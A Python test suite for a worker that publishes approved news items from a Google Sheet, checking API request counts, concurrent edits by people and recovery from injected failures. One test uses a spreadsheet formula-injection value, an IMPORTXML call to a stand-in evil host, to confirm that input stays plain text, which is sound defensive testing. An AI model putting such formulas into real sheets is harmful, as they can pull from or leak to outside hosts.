"""Whole cycles on Google Sheets (the Sheets v4 fake): API requests per cycle at scale, people
editing the sheet while the worker runs, and 30 % of requests failing."""

from __future__ import annotations

import collections
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from automation.core.services import Services
from automation.errors import SheetError
from automation.ports import Envelope, MailSession, MailTransport, nothing
from automation.sources.google import GoogleSheet
from automation.sources.retry import Retrier, RetryPolicy
from tests.sheet_driver import PENDING_ROWS, GoogleDriver, Grid, approve, office_tabs
from tests.workspace import FORM, TODAY, outbox

WRITES = {"batch_update", "values_batch_update", "values_update", "values_append",
          "values_clear"}


def _by_id(driver: GoogleDriver) -> dict[str, dict[str, object]]:
    return {str(r["รหัสข่าว"]): r for r in driver.table(FORM) if r.get("รหัสข่าว")}


# ----------------------------------------------------------------------- requests per cycle


@pytest.mark.parametrize("rows", [100, 10_000, 30_000])
def test_no_change_cycle_costs_one_request_at_any_size(tmp_path: Path, rows: int) -> None:
    driver = GoogleDriver(tmp_path / "office", office_tabs(rows, TODAY))
    report = driver.run_cycle()  # a fresh process, as `automation run --once` from cron
    assert report.submissions == rows
    assert report.sheet_writes == 0
    assert [c.kind for c in driver.api.calls] == ["values_batch_get"]
    assert report.sheet_requests == 1


def test_cycle_with_new_approvals_is_a_few_reads_and_one_write(tmp_path: Path) -> None:
    driver = GoogleDriver(tmp_path / "office", office_tabs(500, TODAY))
    driver.run_cycle()
    ids: list[str] = []
    driver.edit(FORM, lambda grid: ids.extend(approve(grid, 20)) or grid)  # type: ignore[func-returns-value]
    driver.api.reset_counts()
    report = driver.run_cycle()
    kinds = [c.kind for c in driver.api.calls]
    assert report.published == 20
    assert kinds.count("values_batch_update") == 1
    assert kinds.count("values_batch_get") <= 3
    assert "metadata" not in kinds and len(kinds) == report.sheet_requests <= 4
    after = _by_id(driver)
    assert {after[i]["สถานะ"] for i in ids} == {"เผยแพร่แล้ว"}
    # 20 rows × 4 worker cells, adjacent rows and columns grouped into few ranges
    [update] = [c for c in driver.api.calls if c.kind == "values_batch_update"]
    assert len(update.body["data"]) <= 2


def test_formula_looking_and_multiline_input_stays_plain_text(tmp_path: Path) -> None:
    from tests.fakes.sheets_api import Formula

    title = '=IMPORTXML("https://evil.example.test/x","//a")'
    body = "บรรทัดแรก\r\n+66812345678\r\n=1+1\nบรรทัดสุดท้าย"
    tabs = office_tabs(5, TODAY)
    header = tabs[FORM][0]
    row: list[object] = [None] * len(header)
    for name, value in (("ประทับเวลา", "25/11/2569 08:00:00"), ("ที่อยู่อีเมล", "a@example.test"),
                        ("ชื่อโรงเรียน/หน่วยงาน", "โรงเรียนบ้านแม่แรม"), ("หัวข้อข่าว", title),
                        ("เนื้อหาข่าว", body), ("อนุมัติ", True), ("กลุ่มเป้าหมาย", "เครือข่ายสะเมิง")):
        row[header.index(name)] = value
    tabs[FORM].append(row)
    driver = GoogleDriver(tmp_path / "office", tabs)
    report = driver.run_cycle()
    assert report.published == 1
    form = driver.book.tab(FORM)
    assert not any(isinstance(v, Formula) for r in form.rows for v in r)
    written = driver.table(FORM)[-1]
    assert written["หัวข้อข่าว"] == title and written["เนื้อหาข่าว"] == body
    assert written["สถานะ"] == "เผยแพร่แล้ว"
    [update] = [c for c in driver.api.calls if c.kind == "values_batch_update"]
    assert update.body["valueInputOption"] == "RAW"
    mails = outbox(driver.config.parent / "outbox")
    assert any("IMPORTXML" in str(m["Subject"]) for m in mails if m["X-PR-Kind"] == "bulletin")


# ----------------------------------------------------------------------- people at work


def _edit_after_first_read(driver: GoogleDriver, change: object) -> None:
    """Play a person editing the form tab right after the cycle's first read."""
    seen = {"reads": 0}

    def hook(method: str, kind: str) -> None:
        if kind == "values_batch_get":
            seen["reads"] += 1
            if seen["reads"] == 2:
                driver.edit(FORM, change)  # type: ignore[arg-type]

    driver.api.before_request = hook


def _consistent(driver: GoogleDriver) -> None:
    """Every row's worker cells belong to that row (status agrees with its own decision)."""
    for row in driver.table(FORM):
        if not row.get("รหัสข่าว"):
            continue
        decision, status = row["อนุมัติ"], row["สถานะ"]
        if decision == "ไม่อนุมัติ":
            assert status in ("ไม่อนุมัติ", "ผิดพลาด"), row
        elif decision == "ส่งกลับแก้ไข":
            assert status in ("ส่งกลับแก้ไข", "ผิดพลาด"), row
        elif status == "เผยแพร่แล้ว":
            assert row["ลิงก์ข่าว"] == f"https://pr.office.example.test/news/{row['รหัสข่าว']}.html"
        elif decision in (None, "", False):
            assert status in ("รอพิจารณา", "ผิดพลาด"), row


def _new_row(title: str) -> list[object]:
    return ["", "late@example.test", "โรงเรียนบ้านแม่แรม", "ครู", "0812345678", title, "เนื้อหา"]


@pytest.mark.parametrize("edit", ["insert_above", "sort", "delete", "form_append"])
def test_edits_after_the_first_read_do_not_shift_writes(tmp_path: Path, edit: str) -> None:
    driver = GoogleDriver(tmp_path / "office")
    driver.run_cycle()
    before = _by_id(driver)
    pending = next(i for i, r in before.items() if r["สถานะ"] == "รอพิจารณา")

    def tick(grid: Grid) -> Grid:
        col, ids = grid[0].index("อนุมัติ"), grid[0].index("รหัสข่าว")
        for row in grid[1:]:
            if row[ids] == pending:
                row[col] = True
        return grid

    driver.edit(FORM, tick)
    victim = next(i for i, r in before.items() if r["สถานะ"] == "ไม่อนุมัติ")

    def person(grid: Grid) -> Grid:
        ids, title = grid[0].index("รหัสข่าว"), grid[0].index("หัวข้อข่าว")
        if edit == "insert_above":
            return [grid[0], _new_row("แทรกด้านบน 1"), _new_row("แทรกด้านบน 2"), *grid[1:]]
        if edit == "sort":
            return [grid[0], *sorted(grid[1:], key=lambda r: str(r[title]))]
        if edit == "delete":
            return [r for r in grid if len(r) <= ids or r[ids] != victim]
        return [*grid, _new_row("ส่งเข้ามาระหว่างรอบ")]

    _edit_after_first_read(driver, person)
    report = driver.run_cycle()
    assert report.published == 1
    after = _by_id(driver)
    assert after[pending]["สถานะ"] == "เผยแพร่แล้ว"
    _consistent(driver)
    unknown = [r for r in driver.table(FORM) if str(r["หัวข้อข่าว"]).startswith(("แทรก", "ส่งเข้า"))]
    for row in unknown:  # rows the cycle never read are left alone until the next cycle
        assert row.get("รหัสข่าว") in (None, "") and row.get("สถานะ") in (None, "")
    if edit == "delete":
        assert victim not in after
        assert any(victim in n for n in report.notes)
    driver.api.before_request = None
    driver.run_cycle()
    for row in driver.table(FORM):
        assert str(row["รหัสข่าว"]).startswith("N-") and row["สถานะ"]


def test_sort_between_fresh_read_and_write_is_repaired_next_cycle(tmp_path: Path) -> None:
    """The one window no spreadsheet API closes: a sort in the instant between the fresh
    read and the batchUpdate. Worker cells may land on the wrong rows for one cycle; they
    are derived from the ledger, so the next cycle writes them back where they belong."""
    driver = GoogleDriver(tmp_path / "office")
    driver.run_cycle()
    pending = [i for i, r in _by_id(driver).items() if r["สถานะ"] == "รอพิจารณา"]

    def tick_and_sort(grid: Grid) -> Grid:
        col, ids = grid[0].index("อนุมัติ"), grid[0].index("รหัสข่าว")
        for row in grid[1:]:
            if row[ids] in pending:
                row[col] = True
        return grid

    driver.edit(FORM, tick_and_sort)

    def hook(method: str, kind: str) -> None:
        if kind == "values_batch_update":
            driver.edit(FORM, lambda g: [g[0], *reversed(g[1:])])

    def worker_cells() -> dict[str, tuple[object, ...]]:
        cells = ("สถานะ", "เผยแพร่เมื่อ", "ผลการส่ง", "ลิงก์ข่าว")
        return {i: tuple(r[c] or "" for c in cells) for i, r in _by_id(driver).items()}

    before = worker_cells()
    driver.api.before_request = hook
    driver.run_cycle()
    during = worker_cells()
    misplaced = [i for i in before if i not in pending and during[i] != before[i]]
    assert misplaced, "the sort in the window did move the cells"
    driver.api.before_request = None
    driver.run_cycle()
    _consistent(driver)
    after = worker_cells()
    assert {after[i][0] for i in pending} == {"เผยแพร่แล้ว"}
    assert all(after[i] == before[i] for i in before if i not in pending)


# ----------------------------------------------------------------------- faults


class CountingTransport:
    """The real outbox transport, counting every hand-over per ledger key."""

    def __init__(self, inner: MailTransport, sends: collections.Counter[str]) -> None:
        self.inner = inner
        self.sends = sends

    def open(self) -> MailSession:
        session = self.inner.open()
        sends = self.sends

        class Session:
            def send(self, envelope: Envelope, meanwhile: Callable[[], None] = nothing) -> None:
                session.send(envelope, meanwhile)
                sends[envelope.key] += 1

            def close(self) -> None:
                session.close()

        return Session()


def test_thirty_percent_of_requests_failing(tmp_path: Path) -> None:
    driver = GoogleDriver(tmp_path / "office", office_tabs(40, TODAY))
    # Twenty fresh items approved for the cluster, on top of the processed rows.
    driver.edit(FORM, lambda g: approve(g, 20) and g)  # type: ignore[func-returns-value]
    approved = {str(r["รหัสข่าว"]) for r in driver.table(FORM) if r["อนุมัติ"] is True}
    assert len(approved) == 20
    sends: collections.Counter[str] = collections.Counter()
    slept: list[float] = []

    def fragile(svc: Services) -> None:
        backend = svc.sheet.backend
        assert isinstance(backend, GoogleSheet)
        # A short budget in simulated time: some cycles give up and the next one resumes.
        now = [0.0]

        def sleep(s: float) -> None:
            slept.append(s)
            now[0] += s

        backend.retrier = Retrier(RetryPolicy(budget=3.0, base=1.0), sleep=sleep,
                                  clock=lambda: now[0], seed=len(slept))
        svc.transport = CountingTransport(svc.transport, sends)

    driver.api.inject_rate(0.3, kinds=(429, 500, 502, 503, "timeout", "timeout_after", "conn"),
                           seed=7)
    given_up = 0
    for _cycle in range(12):
        try:
            driver.run_cycle(fragile)
        except SheetError as exc:
            assert exc.transient, exc
            given_up += 1
    faults = driver.api.count() - driver.api.count(include_faulted=False)
    driver.api.clear_faults()
    final = driver.run_cycle(fragile)
    assert given_up > 0 and faults >= 10 and slept  # the faults did bite
    assert final.sent == 0  # everything went out during the faulty cycles

    duplicates = {k: n for k, n in sends.items() if n > 1}
    assert duplicates == {}
    bulletins = [m for m in outbox(driver.config.parent / "outbox") if m["X-PR-Kind"] == "bulletin"]
    assert {m["X-PR-Item"] for m in bulletins} == approved
    assert len(bulletins) == sum(1 for k in sends if k.startswith("bulletin:"))
    rows = _by_id(driver)
    assert {rows[i]["สถานะ"] for i in approved} == {"เผยแพร่แล้ว"}
    assert all(re.fullmatch(r"ส่ง (\d+)/\1", str(rows[i]["ผลการส่ง"])) for i in approved)
    assert sum(1 for r in rows.values() if r["สถานะ"] == "รอพิจารณา") == min(40, PENDING_ROWS) - 20
